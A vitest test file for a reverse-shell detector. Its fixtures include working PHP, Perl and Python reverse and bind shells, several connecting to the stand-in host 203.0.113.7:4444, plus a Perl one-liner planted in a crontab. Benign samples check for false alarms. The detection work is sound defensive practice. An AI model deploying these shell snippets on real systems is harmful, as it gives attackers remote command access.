/**
 * A PHP reverse shell found by following its socket and its process through the variables
 * that hold them, however far apart they are (issue 27: a 300-character window missed a
 * well-known shell whose socket and process call are 398 characters apart).
 */
import { describe, expect, it } from 'vitest';
import { reverseShell } from '../../src/findings/content-rules.js';
import { addedFile } from '../support/change-facts.js';

const padding = (n: number) => `\n// ${'x'.repeat(n)}\n$banner = "ready";\n`;

describe('socket to process, by data flow', () => {
  it('finds a socket copied to a process through its pipes, 1,000 characters apart', () => {
    const text = `<?php
$ip = '203.0.113.7'; $port = 4444;
$sock = fsockopen($ip, $port, $errno, $errstr, 30);
${padding(1000)}
$spec = array(0 => array("pipe", "r"), 1 => array("pipe", "w"), 2 => array("pipe", "w"));
$process = proc_open('/bin/sh -i', $spec, $pipes);
while (!feof($sock)) {
  $input = fread($sock, 1400);
  fwrite($pipes[0], $input);
  fwrite($sock, fread($pipes[1], 1400));
}`;
    expect(reverseShell(addedFile('/var/www/html/x.php', text))).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/PHP connecting a socket to a shell/),
    });
  });

  it('finds a socket handed to a process as its streams, far from where it was opened', () => {
    const text = `<?php $s = stream_socket_client("tcp://203.0.113.7:4444");${padding(600)}
$d = [0 => $s, 1 => $s, 2 => $s];
proc_open("/bin/sh", $d, $p);`;
    expect(reverseShell(addedFile('/tmp/r.php', text))?.severity).toBe('critical');
  });

  it("finds both ends handed to a copier of the page's own, which writes through another", () => {
    const text = `<?php
class Shell {
  function write($stream, $data) { return fwrite($stream, $data); }
  function rw($input, $output) {
    while (($data = fread($input, 1024)) && $this->write($output, $data)) {}
  }
  function run() {
    $socket = @fsockopen($this->addr, $this->port, $errno, $errstr, 30);${padding(600)}
    $process = @proc_open($this->shell, $this->spec, $pipes);
    do {
      $this->rw($socket, $pipes[0]);
      $this->rw($pipes[1], $socket);
    } while (!feof($socket));
  }
}`;
    expect(reverseShell(addedFile('/var/www/html/r.php', text))?.severity).toBe('critical');
    // The same class whose helper only logs what it is given: no data moves between the ends.
    const logger = text.replace('return fwrite($stream, $data);', 'error_log($data);');
    expect(reverseShell(addedFile('/var/www/html/r.php', logger))).toBeUndefined();
  });

  it("finds a command's output written down the socket, and the one-liner wiring its descriptor", () => {
    const report = `<?php $c = fsockopen($_POST['ip'], $_POST['port']);${padding(600)}
fputs($c, system('uname -a') . "\n");
fputs($c, shell_exec('id'));`;
    expect(reverseShell(addedFile('/var/www/html/bc.php', report))?.severity).toBe('critical');
    const oneLiner = `<?php $sock = fsockopen("203.0.113.7", 4444); exec("/bin/sh -i <&3 >&3 2>&3"); ?>`;
    expect(reverseShell(addedFile('/tmp/x.php', oneLiner))?.severity).toBe('critical');
  });

  it('leaves a development server checking its port, then starting', () => {
    const text = `<?php
function isTaken($host, $port) {
  $fp = @fsockopen($host, $port, $errno, $errstr, 3);
  if ($fp === false) return false;
  fclose($fp);
  return true;
}
if (isTaken('localhost', 8080)) { echo "port taken"; exit(1); }
passthru(PHP_BINARY . ' -S localhost:8080 -t public');`;
    expect(reverseShell(addedFile('/srv/app/serve.php', text))).toBeUndefined();
  });

  it('leaves a mailer that opens a socket and a sendmail pipe, unconnected', () => {
    const text = `<?php
$smtp = fsockopen($host, 25);
fwrite($smtp, "HELO example.org\\r\\n");
${padding(600)}
$mail = popen('/usr/sbin/sendmail -t', 'w');
fwrite($mail, $headers . $body);
pclose($mail);`;
    expect(reverseShell(addedFile('/var/www/html/mail.php', text))).toBeUndefined();
  });
});

describe('Perl and Python shells wired to a socket', () => {
  const judge = (path: string, text: string) => reverseShell(addedFile(path, text));

  it('finds a Perl reverse shell whatever its socket handle is named', () => {
    // pentestmonkey's perl-reverse-shell: the handle is SOCK, not S.
    const text = `use Socket;
socket(SOCK, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
if (connect(SOCK, sockaddr_in($port, inet_aton($ip)))) {
  open(STDIN, ">&SOCK");
  open(STDOUT, ">&SOCK");
  open(STDERR, ">&SOCK");
  exec({"/bin/sh"} ($fake_process_name, "-i"));
}`;
    expect(judge('/tmp/.x.pl', text)?.reason).toMatch(/Perl connecting a socket to a shell/);
  });

  it('finds a Perl bind shell duplicating its handles onto the connection it accepted', () => {
    const text = `socket(S,&PF_INET,&SOCK_STREAM,$t)||die();
bind(S,sockaddr_in($p,INADDR_ANY))||die();
listen(S,3)||die();
accept(C,S);
open STDIN,"<&C";open STDOUT,">&C";open STDERR,">&C";
exec $sh||die();`;
    expect(judge('/var/www/cgi-bin/b.pl', text)?.severity).toBe('critical');
  });

  it('finds a Perl shell whose socket is a lexical handle, duplicated by the three-argument open', () => {
    const text = `socket(my $s, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
connect($s, sockaddr_in(4444, inet_aton('203.0.113.7')));
open(STDIN, '<&', $s); open(STDOUT, '>&', $s);
system('/bin/sh -i');`;
    expect(judge('/tmp/.s.pl', text)?.severity).toBe('critical');
  });

  it('finds the IO::Socket one-liner in a crontab', () => {
    const line = `* * * * * perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"203.0.113.7:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'\n`;
    expect(judge('/etc/cron.d/x', line)?.severity).toBe('critical');
  });

  it('does not alarm on a Perl daemon sending its output to a log file, with a socket of its own', () => {
    const text = `socket(SERVER, PF_INET, SOCK_STREAM, $proto);
open(LOG, ">>/var/log/mydaemon.log");
open(STDOUT, ">&LOG");
open(STDERR, ">&LOG");
system("/usr/bin/logger", "started");`;
    expect(judge('/usr/sbin/mydaemon', text)).toBeUndefined();
  });

  it('finds a Python bind shell running what the connection sends', () => {
    const text = `from socket import *
import os, popen2
sockobj = socket(AF_INET, SOCK_STREAM)
sockobj.bind(('', Port))
sockobj.listen(5)
connection, address = sockobj.accept()
while 1:
    data = connection.recv(1024)
    if not data: break
    cmd_res, stdin, stderror = popen2.popen3(data[:-2])
    connection.send(cmd_res.read())`;
    expect(judge('/var/www/html/s.py', text)?.reason).toMatch(
      /Python running what a socket receives/,
    );
  });

  it('does not alarm on a Python service running a fixed program with a name it received', () => {
    const text = `import socket, subprocess
conn, addr = server.accept()
name = conn.recv(64).decode().strip()
out = subprocess.run(["systemctl", "is-active", name], capture_output=True)
conn.send(out.stdout)`;
    expect(judge('/usr/lib/svc/status.py', text)).toBeUndefined();
  });
});
